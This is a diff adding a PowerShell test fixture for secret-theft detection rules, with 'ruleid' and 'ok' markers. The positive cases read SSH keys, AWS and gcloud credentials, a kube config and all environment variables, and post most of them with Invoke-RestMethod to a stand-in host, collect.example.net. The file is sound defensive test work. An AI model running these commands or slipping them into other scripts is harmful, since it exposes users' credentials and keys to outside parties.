@@ -1,0 +1,30 @@
+# Inert PowerShell samples (never run): commands inside the blocks of control statements.
+$key = "$env:USERPROFILE\.ssh\id_rsa"
+if (Test-Path $key) {
+  # ruleid: shell-secret-file-read
+  Invoke-RestMethod -Uri "https://collect.example.net/k" -Method Post -InFile $key
+} else {
+  $all = Get-ChildItem env: | Out-String
+  # ruleid: shell-env-exfiltration
+  Invoke-RestMethod -Uri "https://collect.example.net/e" -Method Post -Body $all
+}
+
+$files = @("$env:USERPROFILE\.aws\credentials", "$env:APPDATA\gcloud\credentials.db")
+foreach ($f in $files) {
+  # ruleid: shell-secret-file-read
+  if (Test-Path $f) { Invoke-RestMethod -Uri "https://collect.example.net/f" -Method Post -InFile $f }
+}
+
+try {
+  # ruleid: shell-secret-file-read
+  $k = Get-Content "$env:USERPROFILE\.kube\config" -Raw
+} catch {
+  Write-Output "no config"
+}
+
+foreach ($n in "notes.txt", "todo.txt") {
+  # ok: shell-secret-file-read
+  Get-Content $n | Measure-Object -Line
+}
+# ok: shell-secret-file-read
+Invoke-RestMethod -Uri "https://api.example.com/status" -TimeoutSec 30
